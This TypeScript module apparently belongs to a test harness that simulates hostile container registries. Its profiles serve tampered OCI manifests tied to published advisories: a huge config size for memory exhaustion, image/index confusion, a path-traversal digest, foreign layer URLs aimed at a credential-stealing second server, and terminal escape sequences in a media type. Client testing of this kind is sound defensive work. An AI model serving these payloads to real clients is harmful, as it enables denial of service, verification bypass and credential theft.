import { buffer } from 'node:stream/consumers';

import { digestOf, isDigest, MEDIA_TYPES } from '@nx-oci/model';

import { findManifest } from '../repositories/manifest-records';
import type { Quirk, RegistryProfile, Visit } from '../quirks/registry-profile';
import { answerAsCredentialThief, HONEST_LOGIN } from './credential-thief';

type Document = Readonly<Record<string, unknown>>;

type Change = (document: Document, elsewhereUrl: string) => Document;

/** Serves another document under every tag, with the digest of that document. */
function giveFalseDocument(name: string, change: Change, mediaType: string = MEDIA_TYPES.ociManifest): RegistryProfile {
  return {
    name,
    title: `a registry with ${name.replaceAll('-', ' ')}`,
    login: HONEST_LOGIN,
    rateLimits: [],
    settings: [],
    makeQuirks: () => [replaceDocument(change, mediaType)],
    answerSecondServer: answerAsCredentialThief,
  };
}

/**
 * Claims the largest possible size for its config: clients that allocate the memory run out of it.
 *
 * @see https://github.com/oras-project/oras-go/security/advisories/GHSA-f36w-mj3v-6jqv
 */
export const hugeSize = giveFalseDocument('huge-size', (document) => ({
  ...document,
  config: { ...(document['config'] as Document), size: Number.MAX_SAFE_INTEGER },
}));

/**
 * An image to one reader and an index to another: the verified content is not what runs.
 *
 * @see https://github.com/opencontainers/image-spec/security/advisories/GHSA-77vh-xpmg-72qh
 */
export const imageAndIndex = giveFalseDocument('image-and-index', (document) => ({ ...document, manifests: [] }));

/**
 * The document of an image, announced as an index: a signer and a runtime may see different content.
 *
 * @see https://github.com/opencontainers/distribution-spec/security/advisories/GHSA-mc8v-mgrf-8f4m
 */
export const imageCalledIndex = giveFalseDocument('image-called-index', ({ mediaType: _, ...rest }) => rest, MEDIA_TYPES.ociIndex);

/**
 * Its digests lead out of the folder and of the repository in which clients look them up.
 *
 * @see https://github.com/containers/image/security/advisories/GHSA-6wvf-f2vw-3425
 */
export const pathInDigest = giveFalseDocument('path-in-digest', (document) => ({
  ...document,
  config: { ...(document['config'] as Document), digest: 'sha256:../../../../v2/another/blobs/x' },
}));

/**
 * Its layers name a server of the registry's choice, as foreign layers do.
 *
 * @see CVE-2020-15157, "ContainerDrip" (containerd)
 */
export const foreignLayers = giveFalseDocument('foreign-layers', (document, elsewhereUrl) => ({
  ...document,
  layers: (document['layers'] as readonly Document[]).flatMap((layer) => [
    { ...layer, urls: [`${elsewhereUrl}/layer`] },
    { ...layer, urls: [`${elsewhereUrl}/layer`], mediaType: 'application/vnd.oci.image.layer.nondistributable.v1.tar+gzip' },
  ]),
}));

/** Media types that clear the screen, rename the window and reverse the text. */
export const terminalDocument = giveFalseDocument('terminal-document', (document) => ({
  ...document,
  mediaType: `text/\u009b2J\u202e\u001b]0;owned\u0007`,
}));

function replaceDocument(change: Change, mediaType: string): Quirk {
  // The document of a tag is also served under its digest.
  const given = new Map<string, string>();
  return async (visit, next) => {
    const { request, route } = visit;
    if (route.noun !== 'manifest' || (request.method !== 'GET' && request.method !== 'HEAD')) return next();
    const document = isDigest(route.reference) ? undefined : await readDocument(visit);
    const body = document ? JSON.stringify(change(document, visit.secondServerUrl)) : given.get(route.reference);
    if (body === undefined) return next();
    const digest = digestOf(body);
    given.set(digest, body);
    return { status: 200, headers: { 'content-type': mediaType, 'docker-content-digest': digest }, body };
  };
}

async function readDocument({ state: { storage }, route }: Visit): Promise<Document | undefined> {
  const manifest = await findManifest(storage, route.repository, route.reference);
  return manifest && (JSON.parse((await buffer(storage.content.read(manifest.digest))).toString('utf8')) as Document);
}
